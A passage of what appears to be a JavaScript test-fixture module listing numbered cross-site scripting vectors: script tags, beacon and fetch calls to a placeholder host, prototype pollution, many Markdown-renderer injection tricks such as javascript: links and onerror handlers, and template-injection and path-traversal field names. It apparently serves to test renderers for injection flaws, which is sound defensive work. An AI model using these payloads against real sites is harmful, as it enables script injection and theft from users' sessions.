    ["stored for later", `<script>localStorage.setItem("hit","NUM");document.cookie="hit=NUM";HIT</script>`],
    ["message to the app", `<script>postMessage({postil:"0".repeat(32),html:"<script>HIT<\\/script>"},"*");HIT</script>`],
    ["prototype", `<script>Object.prototype.hit=NUM;HIT</script>`],
    ["beacon", `<script>navigator.sendBeacon("https://HOST/beacon");new WebSocket("wss://HOST/socket");fetch("https://HOST/fetch").catch(()=>0)</script>`],
    ["leaves the page", `<script>HIT;top.location="https://HOST/leave"</script>`, { alone: true }],
    ["dialogs", `<script>HIT;print()</script>`, { alone: true }],
  ]],
];

/// All vectors as HTML: `{ name, html, group, alone }`; a vector's number is
/// its place here.
export const VECTORS = numbered(CLASSES, 0);

/// Markdown that a careless renderer turns into one of the above.
export const MARKDOWN = numbered([
  ["markdown", [
    ["link", `[link](javascript:HIT)`],
    ["link in angle brackets", `[link](<javascript:HIT>)`],
    ["link with a title that breaks out", `[link](https://example.org/ "x\\" onmouseover=\\"HIT")`],
    ["link with entities", `[link](&#106;avascript&colon;HIT) [link](java&Tab;script:HIT)`],
    ["link with escapes", `[link](java\\script:HIT) [link](javascript\\:HIT)`],
    ["link of data", `[link](data:text/html,%3Cscript%3EHIT%3C/script%3E)`],
    ["autolink", `<javascript:HIT> <data:text/html,x> <vbscript:HIT>`],
    ["reference link", `[link][hit NUM] ![picture][hit NUM]\n\n[hit NUM]: javascript:HIT "title"`],
    ["reference link, over two lines", `[other NUM]\n\n[other NUM]:\n  <java\tscript:HIT>\n  'title'`],
    ["picture", `![picture](https://HOST/markdown.png) ![x](javascript:HIT)`],
    ["picture whose words are HTML", `![<img src=x onerror=HIT>](x" onerror="HIT)`],
    ["picture in a link", `[![x](https://HOST/inner.png)](javascript:HIT)`],
    ["raw HTML", `<img src=x onerror=HIT>\n\n<script>HIT</script>\n\n<div onclick="HIT">\n\n*text*\n\n</div>`],
    ["raw HTML in a line", `text <b onmouseover=HIT>b</b> and <a href="javascript:HIT">a</a>`],
    ["HTML in code", "`<img src=x onerror=HIT>` and ``<script>HIT</script>``"],
    ["fence whose language is HTML", "```\"><img src=x onerror=HIT>\n<script>HIT</script>\n```"],
    ["fence never closed", "    <script>HIT</script>\n\n> ```html\n> <img src=x onerror=HIT>"],
    ["heading", `# <svg onload=HIT> {#x onclick=HIT}\n\n<script>HIT</script>\n===`],
    ["table", `| <img src=x onerror=HIT> | [a](javascript:HIT) |\n|---|---|\n| <script>HIT</script> | \`<x>\` |`],
    ["footnote", `text[^NUM]\n\n[^NUM]: <img src=x onerror=HIT> [a](javascript:HIT)`],
    ["list and task", `- [ ] <input autofocus onfocus=HIT>\n- [x](javascript:HIT)\n  1. <svg/onload=HIT>`],
    ["front matter", `title: "<script>HIT</script>"\nauthor: <img src=x onerror=HIT>\nurl: javascript:HIT`],
    ["HTML comment that ends early", `<!--> <img src=x onerror=HIT> -->\n\n<?x <script>HIT</script> ?>\n\n<![CDATA[ <svg onload=HIT> ]]>`],
    ["address that is a link by itself", `www.HOST/<script>HIT</script> https://HOST/"onmouseover="HIT`],
    ["emphasis that cuts a tag", `<a hr*ef="javascript:HIT">l</a*> _<img src=x onerror=_HIT>`],
  ]],
], 1000);

/// What a field of a file may hold besides the vectors; names of every object
/// among them.
export const NAMES = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "null", "", "\u0000", "../../index.html", "{{constructor.constructor('__hit(2000)')()}}", "${__hit(2001)}"];

function numbered(classes, first) {
  return classes
    .flatMap(([group, all]) => all.map((it) => [group, ...it]))
    .map(([group, name, html, { alone = false } = {}], place) => {
      const n = first + place;
      const text = typeof html === "function" ? html(`__hit(${n})`) : html;
      return { n, name: `${group}: ${name}`, group, html: armed(text, n), alone };
    });
}
